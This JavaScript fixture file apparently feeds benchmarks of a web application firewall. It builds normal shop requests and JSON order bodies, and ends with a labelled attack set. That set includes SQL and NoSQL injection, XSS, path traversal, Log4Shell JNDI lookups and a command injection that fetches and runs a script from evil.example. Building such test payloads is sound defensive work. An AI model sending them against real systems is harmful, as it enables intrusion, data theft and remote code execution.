// Request shapes shared by the benchmarks (lifecycle, compare): ordinary traffic and a small
// hand-made attack set, written for this project (one payload per attack class and location).

export const GET_10 = {
  method: "GET",
  path: "/shop/search?q=running+shoes&page=2&size=24&sort=price&order=asc&color=blue&brand=acme&min=10&max=200&lang=en",
  authority: "shop.example.com",
  scheme: "https",
  headers: {
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    accept: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "accept-language": "en-US,en;q=0.5",
    "accept-encoding": "gzip, deflate, br",
    cookie: "session=0123456789abcdef; theme=dark",
    "x-request-id": "6c0c1d3e-1f7a-4d7e-9a61-2f0c8f1c2d3e",
  },
  upstream: { status: 200, headers: { "content-type": "text/html" }, body: "<html>ok</html>" },
};

/** Line item `i`; `variant` k > 0 numbers SKUs and names differently (no value shared with variant 0). */
const lineItem = (i, variant = 0) => ({
  sku: `SKU-${1000 + i + 100000 * variant}`, name: `Item number ${i + 7919 * variant} in blue`, qty: (i % 3) + 1, price: 9.99 + i,
});

/**
 * An order with line items, grown until the document reaches about `bytes`: in one `items` array, or
 * with `perShipment` in shipments of at most that many items. In shipments of 200 no array holds more
 * than 256 elements, so a peer that stops at 256 elements per container (libddwaf) inspects every
 * value, as we do.
 */
function orderJson(bytes, { variant = 0, perShipment = 0 } = {}) {
  const items = [];
  let body = "";
  for (let i = 0; body.length < bytes - 120; i++) {
    items.push(lineItem(i, variant));
    const lines = perShipment ? { shipments: shipmentsOf(items, perShipment) } : { items };
    body = JSON.stringify({ order: { id: "ord-42", customer: { name: "Ada O'Brien", email: "ada@example.com" }, ...lines } });
  }
  return body;
}

const shipmentsOf = (items, per) =>
  Array.from({ length: Math.ceil(items.length / per) }, (_, k) => ({ id: `shp-${k + 1}`, items: items.slice(k * per, (k + 1) * per) }));

/** A 2 KB JSON document shaped like an ordinary API call. */
export const json2k = () => orderJson(2048);
/** The same shape at 64 KB (under the default 100 KiB JSON body limit). */
export const json64k = () => orderJson(65536);
/** 64 KB of the same line items in shipments of 200 (every array within libddwaf's 256-element limit). */
export const json64kShipments = () => orderJson(65536, { perShipment: 200 });

/**
 * `count` documents of the 2 KB order's shape (or the 64 KB shipments'), each grown to the same size,
 * whose SKUs and item names no other one of them has: what caches keyed by value (ours) cannot
 * answer from memory. Keys and structure repeat, as in real traffic.
 */
export const json2kVariants = (count = 16) => Array.from({ length: count }, (_, k) => orderJson(2048, { variant: k + 1 }));
export const json64kShipmentsVariants = (count = 16) => Array.from({ length: count }, (_, k) => orderJson(65536, { variant: k + 1, perShipment: 200 }));

/** The 64 KB order with an SQL injection in the name of line item `index` (default: the 800th). */
export function json64kAttackAt(index = 800) {
  const doc = JSON.parse(json64k());
  doc.order.items[index].name = "1' UNION SELECT username, password FROM users--";
  return JSON.stringify(doc);
}

export const POST_2K = {
  method: "POST",
  path: "/api/orders",
  authority: "shop.example.com",
  scheme: "https",
  headers: { "content-type": "application/json", accept: "application/json", "user-agent": "shop-app/1.0" },
  body: json2k(),
  upstream: { status: 201, headers: { "content-type": "application/json" }, body: '{"ok":true}' },
};

const base = { authority: "shop.example.com", scheme: "https", upstream: { status: 200, headers: {}, body: "ok" } };
const browser = { "user-agent": GET_10.headers["user-agent"], accept: "*/*" };
const get = (path, headers = {}) => ({ ...base, method: "GET", path, headers: { ...browser, ...headers } });
const post = (path, type, body) => ({ ...base, method: "POST", path, headers: { ...browser, "content-type": type }, body });

/** One request per attack class and location. */
export const ATTACKS = [
  get("/search?q=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
  get("/item?id=5%20OR%201=1"),
  get("/p?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
  get("/p?u=javascript:alert(1)"),
  get("/download?file=../../../../etc/passwd"),
  get("/ping?host=127.0.0.1%3Bcat%20/etc/shadow"),
  get("/", { "user-agent": "${jndi:ldap://evil.example/a}" }),
  get("/", { "x-api-version": "${jndi:rmi://10.0.0.1/x}" }),
  get("/fetch?url=http://169.254.169.254/latest/meta-data/"),
  get("/tpl?name={{7*7}}{{config.__class__.__init__.__globals__}}"),
  post("/comment", "application/json", JSON.stringify({ comment: { body: "<img src=x onerror=alert(1)>" } })),
  post("/login", "application/json", JSON.stringify({ user: { $ne: null }, password: { $ne: null } })),
  post("/form", "application/x-www-form-urlencoded", "cmd=%7C%7C%20wget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O-%7Csh"),
  post("/form", "application/x-www-form-urlencoded", "q=admin%27--&submit=1"),
];
